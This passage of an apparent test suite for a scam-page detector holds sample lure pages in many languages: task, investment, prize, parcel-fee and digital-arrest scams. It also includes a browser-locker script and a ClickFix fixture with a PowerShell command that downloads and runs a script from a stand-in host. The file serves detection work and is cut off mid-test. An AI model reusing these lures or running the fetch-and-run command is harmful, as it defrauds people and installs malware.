    it('task scams in Vietnamese, Norwegian, Bulgarian and Czech: a commission with an amount, or work from home, is money to receive; topping up or a deposit "to continue", "to activate" or "before withdrawing" a fee first', () => {
      decides('advance-fee', 'https://don-hang-vip.example/vi/', '<h1>Trung tâm nhiệm vụ</h1><p>Hoa hồng hôm nay: 12,40 USDT.</p><p>Đơn kết hợp: cần nạp thêm 900 USDT trước khi rút được số dư.</p>');
      // Work from home and a deposit to activate the level (Bulgarian, Czech).
      decides('advance-fee', 'https://rabota-doma.example/', '<h1>Работа от вкъщи: 150 лв. на ден</h1><p>Първите 3 задачи са безплатни — след това се изисква депозит за активиране на нивото.</p>');
      decides('advance-fee', 'https://prace-z-domova.example/', '<h1>Práce z domova</h1><p>Za každý úkol 40 Kč. Pro pokračování je nutný vklad 1 000 Kč.</p>');
      decides('advance-fee', 'https://vurder-oppdrag.example/nb/', '<h1>Dagens oppgaver</h1><p>Provisjon: 4,20 USDT per vurdering.</p><p>Fyll på saldoen med 250 USDT for å fortsette.</p>');
    });

    it('a consignment of cash or a diplomatic bag worth a fortune, held until a fee is paid, is money to receive (English, German); a foreign ministry\'s page on the diplomatic bag and a cash-box product stay clean', () => {
      decides('advance-fee', 'https://global-consignment-tracking.example/awb/77', '<h1>Shipment AWB-77</h1><p>Item: one trunk box, declared value USD 2,400,000, addressed to Ms. Laura Finch.</p><p>Status: on hold. The release fee must be paid before delivery.</p>');
      decides('advance-fee', 'https://kurier-diplomatisch.example/sendung/DE-4', '<h1>Sendungsverfolgung</h1><p>Inhalt: Diplomatenkoffer mit Wertgegenständen (Wert EUR 1.150.000).</p><p>Die Freigabegebühr von 2.900 € muss vor der Zustellung bezahlt werden.</p>');
      clean(judge('https://www.foreign-ministry.example/en/consular/diplomatic-bag', '<h1>The diplomatic bag</h1><p>Under the Vienna Convention, a diplomatic bag may not be opened or detained. Private parcels are never sent by diplomatic bag, and no embassy asks for a fee to release one.</p>'));
      clean(judge('https://www.office-supply.example/cash-boxes', '<h1>Cash boxes</h1><p>Steel cash box with coin tray, €24.90. Order 50 or more for a 10 % discount.</p>'));
    });

    it('a customs fee in Dutch on a carrier\'s page on a host the carrier does not own is a lure; the story of a pet seller who allows no visits, with the payment reference disguised; a Dutch recovery firm asking to install AnyDesk; a task scam that makes you complete a set of tasks before withdrawing', () => {
      decides('brand-lure', 'https://dhl.pakket-inklaring.example/betalen/3S', '<title>DHL | Douanekosten betalen</title><h1>DHL</h1><p>Er staan nog kosten open voor uw pakket. Zending 3S48 wordt vastgehouden door de douane. Betaal € 2,99 om de bezorging in te plannen.</p>');
      // A news article warning of the same lure quotes it without quotation marks: an article warning of deception is not the kit.
      clean(judge('https://www.nieuws-vandaag.example/tech/6371044/nep-sms-dhl', `<title>Pas op voor deze nep-sms van DHL over douanekosten</title><h1>Pas op voor deze nep-sms van DHL</h1><p>${'De Fraudehelpdesk waarschuwt voor sms-berichten die van DHL lijken te komen, maar afkomstig zijn van oplichters. Een van de berichten luidt: DHL: Er staan nog kosten open voor uw pakket. Betaal € 2,99 om de bezorging in te plannen. '.repeat(3)}</p>`));
      decides('secret-payment', 'https://maine-coon-kittens.example/reserve', '<h1>Reserve your kitten</h1><p>Due to high demand we only hold a kitten with a non-refundable deposit of £150.</p><p>Please use "gift" as the reference.</p><p>Unfortunately we cannot accept viewings at the moment as we are relocating.</p>');
      decides('refund-remote-access', 'https://fraudeherstel.example/aanvraag', '<h1>Geld kwijt aan oplichters? Wij halen het terug</h1><p>Ons team haalt uw geld terug via een chargeback-procedure.</p><p>Onze medewerker kan u vragen AnyDesk te installeren om de transacties samen te bekijken.</p>');
      decides('advance-fee', 'https://m.boost-merchant.example/task/home', '<h1>Rules</h1><p>Complete 40 optimisation tasks per set to withdraw. Combination orders give 6x commission. Recharge via USDT through your trainer.</p>');
      const tax = judge('https://espace.exchange-retrait.example/retrait', '<h1>Demande de retrait</h1><p>Le montant de la taxe de 15 % s\'élève à 10 772 €. Ce montant ne peut pas être prélevé sur votre solde.</p>');
      assert.ok(ids(tax).includes('upfront-fee-text'), JSON.stringify(ids(tax)));
    });

    it('in more languages: a Hungarian gift-box draw in a retailer\'s name with only the postage to pay; a Russian "state company" investment paying a monthly income; a Swahili loan approved once a fee is paid; an APK that must be granted every permission', () => {
      decides('brand-payout', 'https://nyeremeny-jatek.hu-ajandek.example/tesco/', '<title>Gratulálunk! Ön a mai nap szerencsés nyertese</title><h1>TESCO születésnapi nyereményjáték</h1><p>Válasszon egy ajándékdobozt! Csak a szállítási díjat (990 Ft) kell kifizetnie.</p>');
      decides('investment-scam', 'https://neft-invest.example/ru/', '<h1>Пассивный доход от 150 000 ₽ в месяц</h1><p>Программа одобрена Правительством. Старт от 20 000 ₽.</p>');
      decides('advance-fee', 'https://mkopo-haraka.example/omba', '<h1>Mkopo Haraka</h1><p>Hongera! Umeidhinishwa KSh 25,000. Lipa ada ya usindikaji (KSh 350) kupitia Till Number 5588012 ili mkopo utumwe mara moja.</p>');
      decides('malware-lure-download', 'https://alerts-app.il-download.example/', '<h1>התרעות בזמן אמת</h1><p>לאחר ההתקנה יש לאשר את כל ההרשאות (אנשי קשר, SMS, מיקום).</p><a href="/app/alerts.apk">הורדה לאנדרואיד</a>');
    });

    it('a gold-trading "signal group" with daily returns in a table, a win rate and guaranteed capital is an investment scam; an airdrop claiming a token\'s name in someone else\'s subdomain, asking to connect a wallet, is a drainer lure', () => {
      decides('investment-scam', 'https://goldfx-global.example/invite?code=LC7', '<h1>GoldFX</h1><p>Members follow the mentor\'s signals daily — average win rate 96.8%.</p><table><tr><td>Starter</td><td>Min deposit A$1,000</td><td>Daily return 3–5%</td></tr><tr><td>VIP</td><td>Guaranteed capital</td></tr></table>');
      decides('brand-wallet-lure', 'https://ton-airdrop-claim.ru-drop.example/', '<title>TON Airdrop — Заберите 500 TON</title><h1>TON Airdrop</h1><p>Подключите кошелёк, чтобы проверить право на получение 500 TON. Осталось: 1 482 из 10 000.</p><button onclick="connect()">Подключить кошелёк</button>');
    });

    it('celebrity advertorials and stock clubs: "turn R3,900 into R55,000", a central bank "is furious", an interview taken off air, a German software that "erzielt 1.900 € am Tag", members who turned $5k into $38k in a group with few spots left', () => {
      decides('investment-scam', 'https://business-news.za.trending.example/interview', '<h1>Billionaire exposes the platform making South Africans rich</h1><p>The Reserve Bank is furious. The interview was taken off air shortly afterwards. Anyone can turn R3,900 into R55,000 per month.</p>');
      decides('investment-scam', 'https://nachrichten-heute.example/wirtschaft/skandal.php', '<h1>Skandal in der Talkshow</h1><p>Die Aufzeichnung wurde gelöscht, bevor die Banken es verbieten. Die Plattform erzielt angeblich bis zu 1.900 € am Tag.</p>');
      decides('investment-scam', 'https://wealth-club.example/free-picks', '<h1>Free daily stock picks</h1><p>Only 12 spots left in Group #7.</p><blockquote>Turned $5k into $38k in six weeks.</blockquote>');
    });

    it('returns read from the numbers in any language: a stake that grew many times within weeks, a percentage per month no market pays; a savings plan over years, a welcome bonus and a price cut pair amounts too and stay clean', () => {
      decides('investment-scam', 'https://kripto-kazanc.example/', '<h1>Kripto sinyal grubu</h1><p>Günde %12 getiri sağlıyoruz.</p><blockquote>"2.000 TL ile başladım, 3 haftada 40.000 TL oldu."</blockquote>');
      decides('investment-scam', 'https://hun-vip.example/th/', '<h1>กลุ่มลงทุนหุ้น</h1><p>ผลตอบแทน 25% ต่อเดือน</p><p>ลงทุนขั้นต่ำ 5,000 บาท</p>');
      decides('investment-scam', 'https://wealth-circle.example/join', '<h1>Learn to trade with me</h1><p>I started with $2,500 and had $31,000 two months later.</p><p>Only 8 spots left this month.</p>');
      clean(judge('https://www.robo-invest.example/plans', '<h1>Start small</h1><p>Invest $100 a month and you could have $40,000 in 15 years.</p><p>Minimum investment $100. Capital at risk.</p>'));
      clean(judge('https://www.broker.example/promo', '<h1>Welcome offer</h1><p>Fund your account with $10 within 30 days and get a free bonus share worth up to $200.</p><p>Minimum deposit $10.</p>'));
      clean(judge('https://www.shop.example/deals', '<h1>Deals of the week</h1><p>Espresso machine: now €39, was €199, this week only.</p><p>Only 3 places left in our barista course.</p>'));
    });

    it('a stake doubled within a day, a percentage over a counted stretch ("100 % en 24 heures", "+312 % за 30 дни") and a rate per day written "/jour" are returns no market pays; a parcel service delivering most orders within hours and a week-long loan stay clean', () => {
      decides('investment-scam', 'https://gain-rapide.example/investir', '<h1>Programme d\'investissement</h1><p>Investissez 10 000 FCFA, recevez 20 000 FCFA en 24H.</p><p>Places limitées : plus que 12 places aujourd\'hui.</p>');
      decides('investment-scam', 'https://rendement-express.example/', '<h1>Trading automatique</h1><p>Tu gagnes 100 % en 24 heures.</p><p>Commission de parrainage : niveau 1 : 25 %.</p>');
      decides('investment-scam', 'https://mine-cloud.example/#/register', '<h1>Louez une machine de minage</h1><p>Machine S1 : 8 000 FCFA. Revenu 560 F/jour (7 %).</p><p>Commission de parrainage : niveau 1 : 25 %.</p>');
      clean(judge('https://www.colis-express.example/livraison', '<title>Livraison | Colis Express</title><h1>Colis Express</h1><p>95 % des colis sont livrés en 24 heures.</p><p>Tarifs : 2 000 FCFA jusqu\'à 1 kg, 3 500 FCFA jusqu\'à 5 kg, livraison en 48 h.</p>'));
      clean(judge('https://www.microcredit.example/pret', '<title>Prêt express | MicroCrédit</title><h1>MicroCrédit</h1><p>Empruntez 50 000 FCFA, remboursez 56 000 FCFA en 30 jours.</p>'));
    });

    it('news warning of fake text messages quotes their refunds and fees: a Turkish article on fake e-Devlet and PTT messages is clean', () => {
      clean(judge('https://www.haber-gundem.example/teknoloji/sahte-mesajlar', '<title>Sahte e-Devlet ve PTT mesajlarına dikkat</title><h1>Sahte e-Devlet ve PTT mesajlarına dikkat</h1><p>Vatandaşlara gönderilen mesajlarda şu ifadeler var: "e-Devlet: 1.850,40 TL vergi iadeniz tanımlandı, başvuru: edevlet-iade[.]online" ve "PTT: gönderiniz gümrükte, 19,90 TL ödeyin".</p><p>Yetkililer bağlantılara tıklanmaması, kart bilgisi ve SMS şifresi paylaşılmaması uyarısında bulundu. Vergi iadeleri yalnızca resmi portal üzerinden yapılıyor; PTT gümrük ücretlerini yalnızca kendi sitesinden tahsil ediyor. Şüpheli mesajlar siber suçlarla mücadele birimlerine bildirilebilir.</p>'));
    });

    it('a fee that must be paid first, payable in other companies\' gift cards or through Western Union (a deployed officer\'s leave, a parcel held in customs): a scam in any wording; a carrier\'s own duties page and a shop selling gift cards are clean', () => {
      decides('untraceable-payment', 'https://peace-mission-leave.example/apply', '<h1>Leave application</h1><p>To approve the officer\'s leave, his partner must pay the leave processing fee of $1,900.</p><p>Payment options: Bitcoin, Steam cards, Apple gift cards, Western Union.</p>');
      decides('untraceable-payment', 'https://kurierdienst-diplomat.example/sendung', '<h1>Sendung im Zoll</h1><p>Die Freigabegebühr von 2.300 € ist vor der Zustellung erforderlich.</p><p>Zahlungsmethoden: Western Union, MoneyGram oder Bitcoin-Automat.</p>');
      clean(judge('https://www.parcelo.example/duties', '<title>Pay import duties | Parcelo</title><h1>Parcelo</h1><p>Import duties must be paid before delivery.</p><p>Payment methods: Visa, Mastercard, PayPal.</p><form><input name="cc" autocomplete="cc-number"><button>Pay €12.40</button></form>'));
      clean(judge('https://www.gamestore.example/gift-cards', '<title>Gift cards | GameStore</title><h1>Steam and Xbox gift cards</h1><p>Buy Steam gift cards from €20. Payment methods: Visa, Mastercard, iDEAL.</p>'));
    });

    it('a withdrawal tax that "cannot be deducted from your balance", in German and Italian, is a fake broker\'s; a real exchange deducting its fee from the balance is clean', () => {
      decides('withheld-balance', 'https://konto.trade-alpha.example/auszahlung', '<h1>Auszahlung</h1><p>Guthaben: 58.300 €</p><p>Vor der Auszahlung ist die Kapitalertragsteuer von 14.575 € zu begleichen. Die Steuer kann nicht von Ihrem Guthaben abgezogen werden.</p>');
      decides('withheld-balance', 'https://area.cripto-rendita.example/prelievo', '<h1>Prelievo</h1><p>Saldo disponibile 41.200 €. La commissione di sblocco non può essere detratta dal saldo e va versata con bonifico.</p>');
      clean(judge('https://www.exchange.example/withdraw', '<title>Withdraw | Exchange</title><h1>Withdraw BTC</h1><p>Network fee: 0.0002 BTC. The fee is deducted from your balance automatically.</p>'));
    });

    it('task scams in more words: a "combination order" that needs a top-up before the commission is paid (English, Portuguese) is an advance fee', () => {
      decides('advance-fee', 'https://app.rank-boost.example/h5/#/task', '<h1>Task Center</h1><p>Rate product: Lisbon Hostel. Commission 0.74 USDT per task.</p><p>Combination orders require a top-up to your balance before you continue.</p>');
      decides('advance-fee', 'https://app.avalia-produtos.example/tarefas', '<h1>Central de tarefas</h1><p>Cada tarefa paga R$ 4,50 de comissão.</p><p>Você recebeu um pedido combinado! Faça uma recarga de R$ 380 para desbloquear o saque.</p>');
    });

    it('a job that sends a cheque to be passed on to a supplier, the rest kept (English, German), is a money-mule scam; a company asking staff to order from its approved vendor is clean', () => {
      decides('money-forwarding', 'https://onboarding.brightline-data.example/welcome', '<h1>Welcome to the team</h1><p>You will receive a cheque for £3,900. Deposit it, then transfer £3,400 to our approved supplier for your laptop. Keep the remaining £500 as your joining bonus.</p>');
      decides('money-forwarding', 'https://jobs.finanz-agent.example/stelle', '<h1>Finanzagent (m/w/d)</h1><p>Sie erhalten Zahlungen unserer Kunden auf Ihr Konto und überweisen sie an unsere Lieferanten, abzüglich Ihrer Provision von 8 %.</p>');
      clean(judge('https://intranet.acme-corp.example/it/equipment', '<title>Equipment | Acme Corp</title><h1>Acme Corp IT</h1><p>New staff order laptops through our approved vendor. Send the order form to the vendor portal; Acme pays the invoice directly.</p>'));
    });

    it('an app to sideload that asks for the accessibility service, SMS or all permissions (Chinese, Czech, Hindi after a sentence with a negation, English) is a banking-trojan dropper; an app page saying only "allow installs from unknown sources" is not', () => {
      const apk = (text: string): string => `<h1>App</h1><p>${text}</p><a href="/app/secure.apk">Download APK</a>`;
      decides('malware-lure-download', 'https://fzzx-app.gov-cn.example/', apk('安装后允许“无障碍服务”和“读取短信”权限，民警将远程协助。'));
      decides('malware-lure-download', 'https://servis-pneu.example/apk/', apk('Stáhněte aplikaci a zapněte službu Usnadnění přístupu pro „Bezpečnost“.'));
      decides('malware-lure-download', 'https://challan-pay.example/download/', apk('यह ऐप Play Store पर उपलब्ध नहीं है। इंस्टॉल करते समय सभी परमिशन Allow करें।'));
      decides('malware-lure-download', 'https://rupee-loan.example/apply', apk('Please allow Contacts, Gallery and SMS permissions for quick KYC verification.'));
      clean(judge('https://www.notes-app.example/android', '<title>Download | Notes App</title><h1>Notes App for Android</h1><p>To install the APK, allow installs from unknown sources in your settings.</p><a href="/files/notes-app-3.2.apk">Download APK</a>'));
    });

    it('a help-desk article with Run-box steps and a copy button for a command that reaches nothing beyond the machine (clearing the Teams cache) is clean; the same steps with a command that downloads and runs a script are ClickFix', () => {
      const page = (command: string): string => `<title>KB0142: Microsoft Teams – clear the cache | IT Helpdesk</title><h1>Teams shows no chats – clear the cache</h1><p>Close Teams. Press Win + R, paste the command below and press Enter:</p><pre id="cmd">${command}</pre><button id="cp">Copy command</button><script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('cmd').textContent)}</script>`;
      clean(judge('https://helpdesk.intranet.northwind-logistics.example/kb/teams-cache', page('powershell -NoProfile -Command "Remove-Item -Recurse -Force $env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\*"')));
      const fix = judge('https://helpdesk.intranet.northwind-logistics.example/kb/teams-cache', page('powershell -NoProfile -Command "iwr https://teams-fix.example/cache.ps1 | iex"'));
      assert.ok(fix.verdict === 'malicious' && fix.categories.includes('clickfix'), `${fix.verdict} by ${fix.decidedBy?.join(',')}`);
    });

    it('a tutorial whose only Run-box sentence warns that such a request is an attack (Turkish, English) is clean; a Marathi news story quoting a KBC lottery message is an article', () => {
      const tutorial = (warning: string): string => `<title>Scoop ile kurulum | Yazılım Köyü</title><h1>Scoop ile geliştirme ortamı</h1><p>PowerShell'i açın ve aşağıdaki komutu yapıştırıp Enter'a basın:</p><pre id="c">Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression</pre><button onclick="navigator.clipboard.writeText(document.getElementById('c').textContent)">Kopyala</button><p>${warning}</p>`;
      clean(judge('https://www.yazilimkoyu.example/scoop-kurulum', tutorial('Not: Bir web sitesi size "doğrulama" için Win+R ile bir komut yapıştırmanızı söylüyorsa bu bir saldırıdır.')));
      clean(judge('https://www.yazilimkoyu.example/scoop-kurulum', tutorial('If a website tells you to press Win+R and paste a command to verify you are human, it is a scam.')));
      const steps = judge('https://verify-human.example/', tutorial('Doğrulamak için Win+R tuşlarına basın, komutu yapıştırın ve Enter\'a basın.'));
      assert.ok(ids(steps).includes('run-dialog-instructions'), JSON.stringify(ids(steps)));
      const story = '<title>"KBC लॉटरीत २५ लाख जिंकले" — महिलेने गमावले ३ लाख | लोकवार्ता</title><h1>"KBC लॉटरीत २५ लाख जिंकले"</h1><p>नागपूरमधील एका गृहिणीला व्हॉट्सॲपवर एक मेसेज आला. त्यात लिहिले होते: "बधाई हो! आपका मोबाइल नंबर KBC लकी ड्रॉ में चुना गया है। आपने ₹25,00,000 जीते हैं। इनाम पाने के लिए KBC मैनेजर से संपर्क करें।" संपर्क केल्यावर तिला आधी ₹१२,५०० नोंदणी शुल्क भरायला सांगितले गेले. एकूण ₹३ लाख भरल्यानंतरही बक्षीस न मिळाल्याने तिने सायबर पोलिसांकडे तक्रार केली. पोलिसांनी सांगितले की KBC कोणतीही लॉटरी चालवत नाही. "बक्षीस मिळवण्यासाठी पैसे भरा" असे सांगणारे सर्व मेसेज फसवे आहेत.</p><footer>© 2025 लोकवार्ता</footer>';
      clean(judge('https://www.lokvarta.example/nagpur-kbc-lottery-whatsapp-fraud/articleshow/1184.cms', story));
    });

    it('regional brands phished in India, Turkey and Central Europe are in the registry: an NPCI UPI-PIN form on npci-upi-kyc.online is phishing; NPCI\'s own page is clean', () => {
      const form = '<title>UPI ID verification | NPCI</title><h1>NPCI</h1><form><input name="upin" placeholder="UPI PIN"><input name="exp" autocomplete="cc-exp" placeholder="Expiry (mm/yy)"><button>Verify</button></form>';
      const kit = judge('https://npci-upi-kyc.online/verify', form);
      assert.ok(kit.verdict === 'malicious' && ids(kit).includes('brand-impersonation'), `${kit.verdict}: ${JSON.stringify(ids(kit))}`);
      clean(judge('https://www.npci.org.in/verify', form));
    });

    it('a daily return beside a principal said to be guaranteed (Turkish %4 günlük, English) is an investment scam; a savings account whose deposits are protected at an annual rate is clean', () => {
      decides('investment-scam', 'https://tronkazanc.example/panel', '<h1>TronKazanç</h1><p>GÜMÜŞ: %4 günlük getiri, 45 gün. Anaparanız %100 garantilidir.</p>');
      decides('investment-scam', 'https://usdt-vault.example/plans', '<h1>Vault plans</h1><p>Earn 2.5% daily on every plan. Your capital is 100% guaranteed.</p>');
      clean(judge('https://www.sparbank.example/savings', '<title>Fixed-rate savings | Sparbank</title><h1>Sparbank fixed-rate savings</h1><p>3.1% AER for 12 months. Your deposit is protected up to €100,000 by the deposit guarantee scheme.</p>'));
    });

    it('a Turkish task scam whose withdrawal needs a paid VIP level is an advance fee; a free VIP upgrade is not a fee', () => {
      decides('advance-fee', 'https://gorevkazan.example/app', '<h1>GörevKazan</h1><p>Her görev ₺35 kazandırır: YouTube videosunu beğen. Kazancınızı çekebilmek için VIP seviyenizi yükseltin. VIP ücreti ₺1.000.</p>');
      const free = judge('https://gorevkazan.example/app', '<h1>GörevKazan</h1><p>Her görev ₺35 kazandırır: YouTube videosunu beğen. VIP seviyenizi ücretsiz yükseltin.</p>');
      assert.ok(!ids(free).includes('upfront-fee-text'), JSON.stringify(ids(free)));
    });

    it('a police page on a host no government publishes on that locks the browser (fullscreen, alert loop) is a scam; a police force\'s own slideshow in fullscreen is clean', () => {
      const locker = '<title>Emniyet Genel Müdürlüğü - Siber Suçlar</title><h1>Emniyet Genel Müdürlüğü</h1><p>Bilgisayarınız yasa dışı içerik nedeniyle kilitlendi. 3.000 TL idari para cezasını 24 saat içinde ödeyin.</p><script>document.documentElement.requestFullscreen();setInterval(function(){alert("Bilgisayarınız kilitlendi")},1000);window.onbeforeunload=function(){return "Emin misiniz?"}</script>';
      decides('authority-locker', 'https://egm-siber-ceza.example/kilit', locker);
      clean(judge('https://www.egm.gov.tr/sunum', '<title>Emniyet Genel Müdürlüğü - Sunum</title><h1>Emniyet Genel Müdürlüğü</h1><p>Trafik güvenliği sunumu.</p><script>document.documentElement.requestFullscreen()</script>'));
    });

    it('an invoice, a court order or footage delivered as a disk image (ISO, IMG) is a dropper; an operating system\'s ISO on a mirror is clean', () => {
      decides('malware-lure-download', 'https://invoice-portal.documents-au.example/d/INV-38821', '<title>Download</title><h1>Preparing your document</h1><p>Your download will begin automatically. If it does not, <a href="/d/INV-38821/Invoice_38821.iso">click here</a>.</p>');
      decides('malware-lure-download', 'https://icra-odeme-emri.example/dosya/2025-11874', '<h1>Ödeme Emri</h1><p><a href="/dosya/indir/Odeme_Emri_2025-11874.iso">Belgenin tamamını görüntülemek için indirin</a></p>');
      clean(judge('https://mirror.university.example/linuxmint/stable/22.2/', '<title>Index of /linuxmint/stable/22.2</title><h1>Index of /linuxmint/stable/22.2</h1><a href="linuxmint-22.2-cinnamon-64bit.iso">linuxmint-22.2-cinnamon-64bit.iso</a> <a href="sha256sum.txt">sha256sum.txt</a>'));
    });

    it('investment pitches in Romanian and Hungarian (a stake that pays many times over per month, a consultant who calls, guaranteed monthly returns, automatic trading) are investment scams; a Romanian term deposit is clean', () => {
      decides('investment-scam', 'https://hidro-investitii.example/inregistrare', '<h1>Investiți în acțiuni</h1><p>Cu doar 1.200 lei investiți puteți obține un venit pasiv de peste 15.000 lei pe lună. Un consultant vă va suna pentru a deschide contul.</p>');
      decides('investment-scam', 'https://befektetes-program.example/regisztracio', '<h1>Befektetési Program</h1><p>Garantált havi hozam. A befektetéseket egy automatikus kereskedési rendszer kezeli. Munkatársunk 30 percen belül felhívja Önt.</p>');
      clean(judge('https://www.banca-exemplu.example/depozite', '<title>Depozite la termen | Banca Exemplu</title><h1>Banca Exemplu – depozit la termen</h1><p>Dobândă 5,2% pe an pentru depozite de la 500 lei. Un consultant vă poate răspunde la întrebări.</p>'));
    });

    it('Central European scams: a "safe account" with a request to talk to nobody (Czech) and a refugee appeal whose collector is "registration pending" after a dash (Polish) are scams', () => {
      decides('safe-account', 'https://cnb-bezpecny-ucet.example/ochrana', '<h1>Česká národní banka</h1><p>Pro ochranu Vašich prostředků Vám ČNB zřídila dočasný bezpečný účet. Převeďte prostředky na bezpečný účet. Po dobu šetření s nikým nehovořte.</p>');
      decides('unregistered-appeal', 'https://pomoc-ukrainie.example/', '<title>Pilna pomoc dla uchodźców – zbiórka</title><h1>Pilna pomoc dla uchodźców</h1><p>Twoja wpłata trafia bezpośrednio do potrzebujących. Nie posiadamy jeszcze numeru KRS – wniosek w trakcie rejestracji.</p>');
    });

    it('a Turkish holiday-rental deposit to be sent as a receipt over WhatsApp, with "do not write villa in the description", is a scam', () => {
      decides('payment-proof', 'https://bodrumvilla-tatil.example/villa/gumbet', '<h1>Gümbet Havuzlu Villa</h1><p>Kesinleşmesi için 5.400 TL kaporayı aşağıdaki hesaba yatırıp dekontu WhatsApp\'tan iletiniz.</p><p>Açıklama: Kira bedeli (villa veya kapora yazmayınız)</p>');
    });

    it('a "digital arrest" page in the name of the CBI or a city\'s cyber police on a host no government publishes on, asking for a fee or promising the funds back, is a scam; the CBI\'s own site is clean', () => {
      const warrant = '<title>Central Bureau of Investigation - Arrest Warrant</title><h1>Central Bureau of Investigation</h1><p>All funds held in your accounts must be transferred for legality verification. The amount will be refunded within 45 minutes after verification.</p>';
      const kit = judge('https://cbi-gov-in.case-verification.example/warrant/0417', warrant);
      assert.ok(kit.verdict === 'malicious' && ids(kit).includes('government-claim'), `${kit.verdict}: ${JSON.stringify(ids(kit))}`);
      decides('government-fee', 'https://mumbaipolice-cyber.clearance.example/mr/noc', '<title>सायबर पोलीस ठाणे, मुंबई</title><h1>सायबर पोलीस ठाणे, मुंबई</h1><p>प्रमाणपत्र शुल्क आणि सुरक्षा ठेव ₹48,500 खालील UPI वर भरावी.</p>');
      clean(judge('https://cbi.gov.in/notices', warrant));
    });

    it('a subscription trap: a trial bottle paid only by its postage whose fine print charges the card every 30 days (English, German) is a scam; a streaming trial that states its monthly price and a shop selling a subscription are clean', () => {
      const card = '<form><input name="name" autocomplete="cc-name"><input name="card" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"><button>Rush my order</button></form>';
      decides('subscription-trap', 'https://try.slimglow-offer.example/trial', `<h1>Claim your free trial bottle</h1><p>Just pay $5.95 shipping today.</p>${card}<p>If you do not cancel within 10 days you will be charged $94.50 and every 30 days thereafter.</p>`);
      decides('subscription-trap', 'https://vitalkur-angebot.example/probe', `<h1>Ihre Gratisprobe</h1><p>Sie zahlen nur die Versandkosten von 4,95 €.</p>${card}<p>Nach 14 Tagen werden Ihnen alle 30 Tage 79,90 € berechnet, bis Sie schriftlich kündigen.</p>`);
      clean(judge('https://www.streamly.example/signup', `<title>Start your free trial | Streamly</title><h1>Streamly</h1><p>Free for 7 days, then $9.99 a month. Cancel anytime in your account settings.</p>${card}`));
      clean(judge('https://www.bohnenliebe.example/abo', `<title>Kaffee-Abo | Bohnenliebe</title><h1>Bohnenliebe Kaffee-Abo</h1><p>Alle 30 Tage 500 g frisch gerösteter Kaffee für 14,90 €, jederzeit kündbar.</p>${card}`));
    });

    it('sellers who decline what protects the buyer: festival tickets "to avoid platform fees" paid by bank transfer only, a villa whose owner does not take Airbnb or cards, are scams; a debt collector that never accepts gift cards and a holiday flat taking a deposit by transfer are clean', () => {
      decides('refused-protection', 'https://festival-tickets-resale.example/weekend', '<h1>Weekend tickets – sold out</h1><p>To avoid platform fees we only accept bank transfer. Tickets are sent by WhatsApp after payment.</p>');
      decides('refused-protection', 'https://villa-mare.affitti-estate.example/prenota', '<h1>Villa Mare</h1><p>Non accettiamo pagamenti tramite Airbnb o carta. Pagamento solo con bonifico istantaneo.</p>');
      // A wholesale supplier refusing what protects a trade buyer (letters of credit, escrow), a deposit in a stablecoin.
      decides('refused-protection', 'https://medical-supply-global.example/gloves', '<h1>Nitrile Examination Gloves – Bulk</h1><p>Payment terms: 50% deposit by wire transfer (T/T) or USDT (TRC-20) to secure factory allocation. No letters of credit, no escrow, no samples due to high demand.</p>');
      clean(judge('https://pay.northway-collections.example/', '<title>Make a payment | Northway Collections</title><h1>Northway Collections</h1><p>Pay by debit card or bank account. We never accept gift cards or cryptocurrency.</p><form><input name="cc" autocomplete="cc-number"><button>Pay</button></form>'));
      clean(judge('https://www.ferienwohnung-seeblick.example/buchen', '<title>Buchen | Ferienwohnung Seeblick</title><h1>Ferienwohnung Seeblick</h1><p>Anzahlung von 30 % per Überweisung, Restzahlung bei Anreise.</p>'));
    });

    it('a loan or grant released once a fee is paid, the fee to a named person: "para realizar el desembolso debe pagar el seguro … a nombre de Carla M. Ruiz", "pay the processing fee to activate your grant"', () => {
      decides('private-payee', 'https://credito-facil.example/aprobado', '<h1>Su crédito fue aprobado</h1><p>Monto aprobado: $5.000.000. Para realizar el desembolso debe pagar el seguro de $290.000 por Nequi a nombre de Carla M. Ruiz.</p>');
      decides('advance-fee', 'https://community-grants.example/claim', '<h1>Congratulations, you qualify</h1><p>You have been approved for a one-time grant of $7,500.</p><p>Pay the $49 processing fee to release your grant today.</p>');
    });

    it('prize scams in Korean, Arabic and Chinese ("you were selected", "only pay the shipping", "claim your prize"); a lottery prize released against Google Play cards is untraceable payment', () => {
      decides('prize-scam', 'https://event-winner.example/ko', '<h1>축하합니다! 오늘의 당첨자로 선정되었습니다</h1><p>배송비만 결제하시면 갤럭시 S26을 보내드립니다.</p>');
      decides('prize-scam', 'https://eid-draw.example/ar', '<h1>مبروك! فزت بهاتف جديد</h1><p>ادفع رسوم الشحن فقط لاستلام جائزتك.</p>');
      decides('prize-scam', 'https://lucky-day.example/hk', '<h1>恭喜抽中 Dyson 吸塵機！</h1><p>只需支付運費 HK$ 20 即可寄出。</p><button>確認領獎</button>');
      decides('untraceable-payment', 'https://sorteo-global.example/ganador', '<h1>¡Felicidades! Usted ha ganado US$ 500,000</h1><p>Para liberar su premio debe pagar el impuesto de US$ 300 mediante tarjetas de regalo Google Play.</p>');
    });

    it('investment schemes in Danish, Czech, Kazakh and Mexican Spanish: a trading robot with 98 % accuracy and a minimum deposit; guaranteed profit from an AI that trades by itself; 50 000 ₸ that pays 900 000 ₸ a month; "reciba hasta $80,000 al mes" backed by the government', () => {
      decides('investment-scam', 'https://nordic-ai-trade.example/da', '<h1>AI-handelsrobot</h1><p>Vores robot har en nøjagtighed på 98,1 %.</p><p>Minimumsindskud 250 €.</p>');
      decides('investment-scam', 'https://investice-obcane.example/cz', '<h1>Investujte s umělou inteligencí</h1><p>Platforma s umělou inteligencí automaticky obchoduje za vás. Zisk je garantován.</p>');
      decides('investment-scam', 'https://ulttyq-invest.example/kk', '<h1>Ұлттық платформа</h1><p>Бар болғаны 50 000 ₸ салып, айына 900 000 ₸-ге дейін табыс алыңыз.</p><p>Орын саны шектеулі!</p>');
      decides('investment-scam', 'https://petroleo-inversion.example/mx', '<h1>Inversión ciudadana</h1><p>Invierta desde $4,000 MXN y reciba hasta $80,000 al mes.</p><p>Programa respaldado por el Gobierno.</p>');
    });

    it('a marketplace sale "paid" by the buyer, the payment to receive by entering a card, in Swedish and Dutch, is a payout kit; so are a refund the visitor is "entitled to" beside card fields, an e-transfer received through a bank to pick (French) and a tax refund in the tax office\'s name', () => {
